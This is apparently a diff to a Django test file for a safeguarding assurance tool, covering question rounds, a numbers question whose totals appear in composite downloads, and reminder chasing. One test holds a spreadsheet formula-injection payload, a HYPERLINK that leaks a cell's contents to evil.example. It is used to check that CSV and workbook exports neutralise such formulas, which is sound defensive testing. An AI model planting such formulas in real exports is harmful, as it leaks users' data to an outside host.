@@ -19,15 +19,24 @@ from tests.forms import with_dates
 pytestmark = pytest.mark.django_db
 
 
-def _answers(round_, yes_no="yes", text="Our policy covers volunteers too."):
-    return {q.pk: {"yes_no": yes_no if q.is_yes_no else "", "text": text} for q in round_.questions.all()}
+def _answers(round_, yes_no="yes", text="Our policy covers volunteers too.", numbers=(13, 9, 4)):
+    out = {}
+    for q in round_.questions.all():
+        out[q.pk] = {"yes_no": yes_no if q.is_yes_no else "", "text": text}
+        if q.is_numbers:
+            out[q.pk].update(dict(zip(("referrals", "cases", "outcomes"), numbers, strict=True)))
+    return out
 
 
-def test_a_new_round_has_seed_000s_six_questions_with_history(analyst):
+def test_a_new_round_has_seed_000s_questions_and_its_commissioning_questions_with_history(analyst):
     round_ = make_round(analyst=analyst, send=False)
     questions = list(round_.questions.all())
     assert [q.text for q in questions] == [text for text, _ in DEFAULT_QUESTIONS]
-    assert [q.kind for q in questions].count("text") == 1  # the numbers in the last three years
+    assert len(questions) == 8
+    assert [q.kind for q in questions].count("numbers") == 1  # the numbers in the last three years
+    assert questions[4].is_numbers and "numbers of allegations" in questions[4].text
+    assert "contracting and commissioning arrangements" in questions[6].text
+    assert "report concerns about staffing issues to commissioners" in questions[7].text
     assert round_.status == RoundStatus.DRAFT
     created = round_.history.get()
     assert created.history_user == analyst and created.history_change_reason == "Assurance round created"
@@ -47,9 +56,9 @@ def test_questions_are_editable_until_the_round_is_sent(analyst, agency_a, agenc
     added = services.question_save(actor=analyst, round_=round_, question=None,
                                    text="Do your contracts ask providers to report staffing concerns?",
                                    kind=Question.Kind.YES_NO, order=None)
-    assert added.order == 7
+    assert added.order == 9
     services.question_remove(actor=analyst, question=round_.questions.get(order=2))
-    assert round_.questions.count() == 6
+    assert round_.questions.count() == 8
     assert first.history.first().history_change_reason == "Question changed"
     services.round_set_agencies(actor=analyst, round_=round_, agencies=[agency_a])
     services.round_send(actor=analyst, round_=round_)
@@ -91,7 +100,7 @@ def test_senior_manager_saves_a_draft_then_submits(analyst, agency_a, agency_a_m
     assert Answer.objects.get().history.first().history_change_reason == "Answer saved as a draft"
     with pytest.raises(ValidationError) as error:
         services.request_answer(actor=agency_a_manager, request=request, answers={}, submit=True)
-    assert len(error.value.error_dict) == 6  # an empty submission leaves every question to answer
+    assert len(error.value.error_dict) == 8  # an empty submission leaves every question to answer
     with pytest.raises(PermissionDenied):
         services.request_answer(actor=agency_b_outsider, request=request, answers=_answers(round_), submit=True)
     services.request_answer(actor=agency_a_manager, request=request, answers=_answers(round_), submit=True)
@@ -121,7 +130,8 @@ def test_answer_pages_for_the_senior_manager(login, analyst, agency_a, agency_b,
     form_page = client.get(url).content.decode()
     assert "Submit the answers" in form_page
     assert "1. Does your organisation have a clear and well understood process" in form_page  # each question is a legend
-    assert form_page.count('<legend class="govuk-fieldset__legend govuk-fieldset__legend--s">') == 5
+    # Each yes/no question's radios, and the numbers question's three boxes, are a fieldset with a legend.
+    assert form_page.count('<legend class="govuk-fieldset__legend govuk-fieldset__legend--s">') == 8
     q = list(round_.questions.all())
     data = {"action": "draft", f"q{q[0].pk}": "no", f"q{q[0].pk}_text": "Policy under review."}
     assert client.post(url, data).status_code == 302
@@ -135,6 +145,9 @@ def test_answer_pages_for_the_senior_manager(login, analyst, agency_a, agency_b,
     for question in q:
         if question.is_yes_no:
             full[f"q{question.pk}"] = "yes"
+        if question.is_numbers:
+            full.update({f"q{question.pk}_referrals": "13", f"q{question.pk}_cases": "9",
+                         f"q{question.pk}_outcomes": "4"})
         full[f"q{question.pk}_text"] = "Thirteen in three years." if not question.is_yes_no else ""
     assert client.post(url, full)["Location"] == reverse("assurance:request_list")
     assert "Thirteen in three years." in client.get(url).content.decode()  # read-only now
@@ -156,7 +169,7 @@ def test_business_unit_runs_a_round_through_the_pages(login, analyst, agency_a, 
                 {"text": "Is there a named lead for adults?", "kind": "yes_no", "order": "6"})
     assert Question.objects.get(pk=q.pk).text == "Is there a named lead for adults?"
     client.post(reverse("assurance:question_add", args=[round_.pk]), {"text": "Are volunteers covered?", "kind": "yes_no"})
-    assert round_.questions.count() == 7
+    assert round_.questions.count() == 9
     client.post(reverse("assurance:round_agencies", args=[round_.pk]), {"agencies": [agency_a.pk, agency_b.pk]})
     client.post(reverse("assurance:round_send", args=[round_.pk]))
     round_.refresh_from_db()
@@ -180,7 +193,7 @@ def test_business_unit_runs_a_round_through_the_pages(login, analyst, agency_a, 
     assert rows[0] == ["Question", "Hilltop Academy", "Riverside Primary"]
     assert rows[1] == ["Status", "Not submitted yet", "Submitted"]
     assert rows[2][2] == "Yes. Our policy covers volunteers too." and rows[2][1] == ""
-    assert len(rows) == 2 + 7
+    assert len(rows) == 2 + 9 + 3  # the questions, then the numbers question's three totals
     xlsx = client.get(reverse("assurance:composite_xlsx", args=[round_.pk]))
     sheet = load_workbook(io.BytesIO(xlsx.content)).active
     assert [c.value for c in sheet[3]] == ["Question", "Hilltop Academy", "Riverside Primary"]
@@ -223,7 +236,9 @@ def test_senior_managers_and_the_business_unit_find_assurance_in_the_menu(login,
 
 def test_an_answer_never_becomes_a_formula_in_the_downloads(analyst, agency_a, agency_a_manager, login):
     """An agency's answer "=HYPERLINK(...)" stays text in the business unit's CSV and workbook."""
-    round_ = make_round(analyst=analyst, agencies=[agency_a])
+    round_ = make_round(analyst=analyst, agencies=[agency_a], send=False)
+    services.question_save(actor=analyst, round_=round_, question=None, text="Anything else?", kind="text", order=None)
+    round_ = services.round_send(actor=analyst, round_=round_)
     evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
     services.request_answer(actor=agency_a_manager, request=Request.objects.get(round=round_),
                             answers=_answers(round_, text=evil), submit=True)
@@ -236,3 +251,73 @@ def test_an_answer_never_becomes_a_formula_in_the_downloads(analyst, agency_a, a
     cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
     assert "'" + evil in [c.value for c in cells]
     assert all(c.data_type != "f" for c in cells)
+
+
+# --- Numbers that the composite totals, and the due date chased (issue 18 part 2) -----------------------------
+
+
+def test_the_numbers_question_takes_numbers_that_the_composite_totals(analyst, agency_a, agency_b, agency_a_manager,
+                                                                       login):
+    from tests.agencies.factories import UserFactory, member
+    from agencies.models import Role
+
+    round_ = make_round(analyst=analyst, agencies=[agency_a, agency_b])
+    b_manager = member(UserFactory(username="b.manager"), agency_b, Role.SENIOR_MANAGER)
+    numbers_q = round_.questions.get(kind="numbers")
+    services.request_answer(actor=agency_a_manager, request=round_.requests.get(agency=agency_a),
+                            answers=_answers(round_, numbers=(13, 9, 4)), submit=True)
+    services.request_answer(actor=b_manager, request=round_.requests.get(agency=agency_b),
+                            answers=_answers(round_, numbers=(3, None, 1)), submit=True)
+    answer = Answer.objects.get(question=numbers_q, request__agency=agency_a)
+    assert (answer.referrals, answer.cases, answer.outcomes) == (13, 9, 4)
+    assert answer.display.startswith("Referrals 13, Cases 9, Outcomes 4")
+    page = login(analyst).get(reverse("assurance:composite", args=[round_.pk])).content.decode()
+    assert f'id="totals-{numbers_q.pk}"' in page
+    totals = page[page.index(f'id="totals-{numbers_q.pk}"'):]
+    for label, total in (("Referrals", 16), ("Cases", 9), ("Outcomes", 5)):
+        assert (f'<th scope="row" class="govuk-table__header">{label}</th><td class="govuk-table__cell '
+                f'govuk-table__cell--numeric">{total}</td>') in totals
+    rows = list(csv.reader(io.StringIO(login(analyst).get(
+        reverse("assurance:composite_csv", args=[round_.pk])).content.decode())))
+    assert ["Total of question 5: referrals", "16"] in rows and ["Total of question 5: outcomes", "5"] in rows
+
+
+def test_a_numbers_question_refuses_words_and_needs_a_number_to_submit(analyst, agency_a, agency_a_manager, login):
+    round_ = make_round(analyst=analyst, agencies=[agency_a])
+    request = round_.requests.get()
+    numbers_q = round_.questions.get(kind="numbers")
+    url = reverse("assurance:request_answer", args=[request.pk])
+    client = login(agency_a_manager)
+    body = client.post(url, {"action": "draft", f"q{numbers_q.pk}_referrals": "thirteen"}).content.decode()
+    assert "Enter the number of referrals as a whole number, like 12." in body
+    answers = _answers(round_)
+    answers[numbers_q.pk].update(referrals=None, cases=None, outcomes=None)
+    with pytest.raises(ValidationError) as error:
+        services.request_answer(actor=agency_a_manager, request=request, answers=answers, submit=True)
+    assert f"q{numbers_q.pk}_referrals" in error.value.message_dict
+
+
+def test_the_due_date_is_chased_once_reminder_then_overdue_and_the_business_unit_told(
+        analyst, agency_a, agency_b, agency_a_manager):
+    import datetime as dt
+
+    from assurance import chasing
+
+    round_ = make_round(analyst=analyst, agencies=[agency_a, agency_b])
+    due = round_.due_on
+    services.request_answer(actor=agency_a_manager, request=round_.requests.get(agency=agency_a),
+                            answers=_answers(round_), submit=True)  # agency A has answered: never chased
+    waiting = round_.requests.get(agency=agency_b)
+    assert chasing.sweep(today=due - dt.timedelta(days=10)) == {"reminders": 0, "overdue": 0}
+    assert chasing.sweep(today=due - dt.timedelta(days=2)) == {"reminders": 1, "overdue": 0}
+    assert chasing.sweep(today=due - dt.timedelta(days=1)) == {"reminders": 0, "overdue": 0}  # once
+    assert chasing.sweep(today=due + dt.timedelta(days=1)) == {"reminders": 0, "overdue": 1}
+    assert chasing.sweep(today=due + dt.timedelta(days=2)) == {"reminders": 0, "overdue": 0}
+    waiting.refresh_from_db()
+    assert waiting.reminder_sent_at and waiting.overdue_sent_at
+    told = Notification.objects.filter(user=analyst, key=f"assurance-overdue-unit:{waiting.pk}")
+    assert told.count() == 1 and agency_b.name in told.get().title
+    answered = round_.requests.get(agency=agency_a).pk
+    assert not Notification.objects.filter(key__in=[f"assurance-reminder:{answered}", f"assurance-overdue:{answered}",
+                                                    f"assurance-overdue-unit:{answered}"]).exists()
+    assert waiting.history.first().history_change_reason.startswith("Overdue")
